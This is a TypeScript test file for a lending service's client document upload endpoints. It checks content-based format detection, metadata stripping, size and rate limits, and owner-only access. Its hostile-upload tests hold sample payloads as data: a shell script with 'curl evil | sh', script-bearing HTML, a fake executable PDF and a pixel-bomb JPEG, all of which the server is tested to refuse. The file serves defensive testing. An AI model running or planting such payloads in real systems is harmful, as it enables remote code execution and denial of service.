import { clientDocumentForAdmin } from '@lender/core';
import { SAMPLE_GPS_TEXT, sampleHeicPhoto, sampleJpeg, samplePdf, samplePng } from '@lender/core/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documentsClient as registerClient } from '../../test/documents-fixtures';
import { type ApiBody, createTestApp, type TestApp } from '../../test/test-app';

let t: TestApp;
let small: TestApp;
beforeAll(async () => {
  t = await createTestApp();
  small = await createTestApp({ documents: { maxUploadBytes: 100 * 1024 } });
});
afterAll(async () => {
  await t.close();
  await small.close();
});

const UPLOAD = '/web/private/client/client-document/upload';

/** Posts a multipart upload the way a browser does (a File with a name and a claimed type). */
async function upload(
  app: TestApp,
  token: string | undefined,
  fields: { type?: string; bytes: Uint8Array; name: string; contentType: string },
  path = UPLOAD,
): Promise<{ status: number; body: ApiBody }> {
  const form = new FormData();
  if (fields.type) form.set('type', fields.type);
  form.set('file', new File([fields.bytes], fields.name, { type: fields.contentType }));
  const response = await app.app.request(path, {
    method: 'POST',
    body: form,
    headers: token ? { authorization: `Bearer ${token}` } : {},
  });
  return { status: response.status, body: (await response.json()) as ApiBody };
}

/** What a browser sends for one file: the form's document type, the bytes, their name and claimed type. */
const browserFile = (type: string, bytes: Uint8Array, name: string, contentType: string) => ({
  type,
  bytes,
  name,
  contentType,
});

const text = (s: string) => Uint8Array.from(Buffer.from(s));

describe('POST client-document/upload: formats by content', () => {
  it.each([
    ['id_front', 'front.jpg', 'image/jpeg', sampleJpeg(1024, 768), 'image/jpeg'],
    ['id_front', 'front.jpeg', 'image/jpeg', sampleJpeg(1024, 768), 'image/jpeg'],
    ['id_back', 'back.png', 'image/png', samplePng(800, 600), 'image/png'],
    // Stored as the JPEG a browser shows (issue 35).
    ['selfie', 'selfie.heic', 'image/heic', sampleHeicPhoto(), 'image/jpeg'],
    ['payroll', 'nomina.pdf', 'application/pdf', samplePdf(), 'application/pdf'],
    ['payroll', 'nomina.jpg', 'image/jpeg', sampleJpeg(1024, 768), 'image/jpeg'],
    ['bank_statement', 'estado.pdf', 'application/pdf', samplePdf(), 'application/pdf'],
  ])('accepts %s uploaded as %s', async (type, name, claimed, bytes, stored) => {
    const { token } = await registerClient(t);
    const res = await upload(t, token, { type, bytes, name, contentType: claimed });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ type, contentType: stored });
    const read = await t.call('GET', `/web/private/client/client-document/${type}/${res.body.data.id}`, {
      token,
    });
    expect(read.status).toBe(200);
    expect(read.body.data).toMatchObject({ type, contentType: stored });
    expect(Buffer.from(read.body.data.base64, 'base64').length).toBe(res.body.data.size);
  });

  it.each([
    [
      'a shell script renamed .jpg',
      'id_front',
      'photo.jpg',
      'image/jpeg',
      text('#!/bin/sh\ncurl evil | sh\n'),
    ],
    [
      'HTML renamed .png',
      'selfie',
      'selfie.png',
      'image/png',
      text('<html><script>alert(1)</script></html>'),
    ],
    ['a PDF as an ID photo', 'id_back', 'back.pdf', 'application/pdf', samplePdf()],
    [
      'an executable claiming to be a PDF',
      'payroll',
      'nomina.pdf',
      'application/pdf',
      text('MZ\x90\x00\x03'),
    ],
  ])('refuses %s with upload_wrong_format', async (_name, type, name, contentType, bytes) => {
    const { token } = await registerClient(t);
    const res = await upload(t, token, { type, bytes, name, contentType });
    expect(res.status).toBe(400);
    expect(res.body.code).toBe('upload_wrong_format');
    const state = await t.call('GET', '/web/private/client/client-document/state', { token });
    expect(state.body.data.documents).toEqual([]);
  });

  it('stores a PNG that claims to be application/pdf as the PNG it is', async () => {
    const { token } = await registerClient(t);
    const res = await upload(
      t,
      token,
      browserFile('bank_statement', samplePng(800, 600), 'estado.pdf', 'application/pdf'),
    );
    expect(res.status).toBe(200);
    expect(res.body.data.contentType).toBe('image/png');
  });

  it('refuses a missing file or an unknown type as a validation error', async () => {
    const { token } = await registerClient(t);
    const form = new FormData();
    form.set('type', 'id_front');
    const response = await t.app.request(UPLOAD, {
      method: 'POST',
      body: form,
      headers: { authorization: `Bearer ${token}` },
    });
    expect(response.status).toBe(400);
    const bad = await upload(t, token, browserFile('passport', samplePng(800, 600), 'a.png', 'image/png'));
    expect(bad.status).toBe(400);
    expect(bad.body.errors?.[0]?.propertyPath).toContain('type');
  });

  it('answers hs_metric_failed when the photo fails the quality check (too small)', async () => {
    const { token } = await registerClient(t);
    const res = await upload(t, token, browserFile('id_front', samplePng(120, 90), 'f.png', 'image/png'));
    expect(res.status).toBe(400);
    expect(res.body.code).toBe('hs_metric_failed');
    // It says why: the minimum size, in the message and its params (a site words it from these).
    const why = { reason: 'too_small', minSidePx: 320, width: 120, height: 90 };
    expect(res.body).toMatchObject({ params: why });
    expect(res.body.message).toBe(
      'The document failed the quality check: the photo is 120 × 90 px, too small. The shorter side of a photo must be at least 320 px.',
    );
    expect(res.body.errors?.[0]).toMatchObject({ propertyPath: 'children[file].data', params: why });
  });

  it('removes EXIF/GPS metadata before storing', async () => {
    const { token } = await registerClient(t);
    for (const [bytes, name] of [
      [sampleJpeg(1024, 768, true), 'gps.jpg'],
      [samplePng(800, 600, true), 'gps.png'],
      [sampleHeicPhoto(true), 'gps.heic'],
    ] as const) {
      expect(Buffer.from(bytes).toString('latin1')).toContain(SAMPLE_GPS_TEXT);
      const res = await upload(t, token, { type: 'id_front', bytes, name, contentType: 'image/jpeg' });
      expect(res.status).toBe(200);
      const read = await t.call('GET', `/web/private/client/client-document/id_front/${res.body.data.id}`, {
        token,
      });
      expect(Buffer.from(read.body.data.base64, 'base64').toString('latin1')).not.toContain('GPS');
    }
  });
});

describe('upload size limit (413)', () => {
  it('answers 413 payload_too_large above the configured document limit', async () => {
    const { token } = await registerClient(small);
    const big = new Uint8Array(100 * 1024 + 1);
    big.set(samplePdf());
    const res = await upload(small, token, browserFile('payroll', big, 'big.pdf', 'application/pdf'));
    expect(res.status).toBe(413);
    expect(res.body.code).toBe('payload_too_large');
  });

  it('accepts an upload above the 1 MiB JSON limit when the document limit allows it', async () => {
    const { token } = await registerClient(t);
    const big = new Uint8Array(1_500_000);
    big.set(samplePdf());
    const res = await upload(t, token, browserFile('bank_statement', big, 'scan.pdf', 'application/pdf'));
    expect(res.status).toBe(200);
    expect(res.body.data.size).toBe(1_500_000);
  });
});

describe('bank-statement/upload and document/upload', () => {
  it('uploads a bank statement without a type field, and any type through document/upload', async () => {
    const { token } = await registerClient(t);
    const statement = await upload(
      t,
      token,
      { bytes: samplePdf(), name: 'estado.pdf', contentType: 'application/pdf' },
      '/web/private/client/bank-statement/upload',
    );
    expect(statement.status).toBe(200);
    expect(statement.body.data.type).toBe('bank_statement');
    const selfie = await upload(
      t,
      token,
      { type: 'selfie', bytes: sampleJpeg(720, 1280), name: 'me.jpg', contentType: 'image/jpeg' },
      '/web/private/client/document/upload',
    );
    expect(selfie.status).toBe(200);
    expect(selfie.body.data.type).toBe('selfie');
    const script = await upload(
      t,
      token,
      { bytes: text('#!/bin/sh'), name: 'estado.pdf', contentType: 'application/pdf' },
      '/web/private/client/bank-statement/upload',
    );
    expect(script.body.code).toBe('upload_wrong_format');
  });
});

describe('owner-only reads, delete, finish and state', () => {
  it('lets nobody but the owner read or delete a document; anonymous callers get 401', async () => {
    const owner = await registerClient(t);
    const other = await registerClient(t);
    const res = await upload(
      t,
      owner.token,
      browserFile('id_front', samplePng(800, 600), 'a.png', 'image/png'),
    );
    const path = `/web/private/client/client-document/id_front/${res.body.data.id}`;
    expect((await t.call('GET', path, { token: other.token })).status).toBe(404);
    expect((await t.call('DELETE', path, { token: other.token })).status).toBe(404);
    expect((await t.call('GET', path)).status).toBe(401);
    expect(
      (await upload(t, undefined, browserFile('id_front', samplePng(800, 600), 'a.png', 'image/png'))).status,
    ).toBe(401);
    expect((await t.call('GET', path, { token: owner.token })).status).toBe(200);
    // The back office reads it through the service (its routes call readForAdmin).
    const admin = await clientDocumentForAdmin(t.core, res.body.data.id);
    expect(admin.document.type).toBe('id_front');
  });

  it('reports missing documents, refuses an early finish, and locks documents after finishing', async () => {
    const { token } = await registerClient(t);
    const state = await t.call('GET', '/web/private/client/client-document/state', { token });
    expect(state.body.data).toEqual({
      documents: [],
      required: ['id_front', 'id_back', 'selfie'],
      missing: ['id_front', 'id_back', 'selfie'],
      finished: false,
    });
    const early = await t.call('POST', '/web/private/client/client-document/finish', { token });
    expect(early.status).toBe(409);
    expect(early.body.code).toBe('conflict');
    const ids: number[] = [];
    for (const type of ['id_front', 'id_back', 'selfie']) {
      const res = await upload(t, token, {
        type,
        bytes: sampleJpeg(1024, 768),
        name: `${type}.jpg`,
        contentType: 'image/jpeg',
      });
      ids.push(res.body.data.id);
    }
    const deleted = await t.call('DELETE', `/web/private/client/client-document/selfie/${ids[2]}`, { token });
    expect(deleted.status).toBe(200);
    expect(
      (await t.call('GET', `/web/private/client/client-document/selfie/${ids[2]}`, { token })).status,
    ).toBe(404);
    expect(
      (await t.call('GET', '/web/private/client/client-document/state', { token })).body.data.missing,
    ).toEqual(['selfie']);
    await upload(t, token, browserFile('selfie', sampleHeicPhoto(), 's.heic', 'image/heic'));
    const finished = await t.call('POST', '/web/private/client/client-document/finish', { token });
    expect(finished.status).toBe(200);
    expect(finished.body.data).toMatchObject({ missing: [], finished: true });
    const locked = await t.call('DELETE', `/web/private/client/client-document/id_front/${ids[0]}`, {
      token,
    });
    expect(locked.status).toBe(409);
  });
});

describe('photo age setting (spec §5, §9)', () => {
  it('is exposed publicly and disabled by default (a client-side check of 120 s)', async () => {
    const res = await t.call('GET', '/web/public/id-document-autocomplete-time-setting');
    expect(res.body.data).toEqual({ enabled: false, maxAgeSeconds: 120 });
  });
});

describe('hostile uploads over HTTP (issue 10 point 9)', () => {
  it('a 13 KB JPEG declaring 65,000 × 65,000 pixels is 413 payload_too_large', async () => {
    const { token } = await registerClient(t);
    const header = sampleJpeg(65_000, 65_000);
    const bomb = Uint8Array.from(
      Buffer.concat([header.subarray(0, header.length - 2), Buffer.alloc(13_000, 0x11), header.subarray(-2)]),
    );
    expect(bomb.length).toBeLessThan(14 * 1024);
    const res = await upload(t, token, browserFile('id_front', bomb, 'id.jpg', 'image/jpeg'));
    expect(res.status).toBe(413);
    expect(res.body.code).toBe('payload_too_large');
  });

  it('the uploaded document is read back without sniffing or caching', async () => {
    const { token } = await registerClient(t);
    const up = await upload(t, token, browserFile('id_front', sampleJpeg(1024, 768), 'id.jpg', 'image/jpeg'));
    const read = await t.call('GET', `/web/private/client/client-document/id_front/${up.body.data.id}`, {
      token,
    });
    expect(read.status).toBe(200);
    expect(read.headers.get('x-content-type-options')).toBe('nosniff');
    expect(read.headers.get('cache-control')).toBe('no-store');
  });

  it('uploads per client per day are capped (429 with Retry-After)', async () => {
    const capped = await createTestApp({ limits: { documentUploadsPerDay: 2 } });
    try {
      const { token } = await registerClient(capped);
      const send = () =>
        upload(capped, token, browserFile('id_front', sampleJpeg(1024, 768), 'id.jpg', 'image/jpeg'));
      expect((await send()).status).toBe(200);
      expect((await send()).status).toBe(200);
      const third = await capped.app.request(UPLOAD, {
        method: 'POST',
        body: (() => {
          const form = new FormData();
          form.set('type', 'id_front');
          form.set('file', new File([sampleJpeg(1024, 768)], 'id.jpg'));
          return form;
        })(),
        headers: { authorization: `Bearer ${token}` },
      });
      expect(third.status).toBe(429);
      expect(((await third.json()) as ApiBody).code).toBe('rate_limited');
      expect(Number(third.headers.get('retry-after'))).toBeGreaterThan(0);
    } finally {
      await capped.close();
    }
  });
});
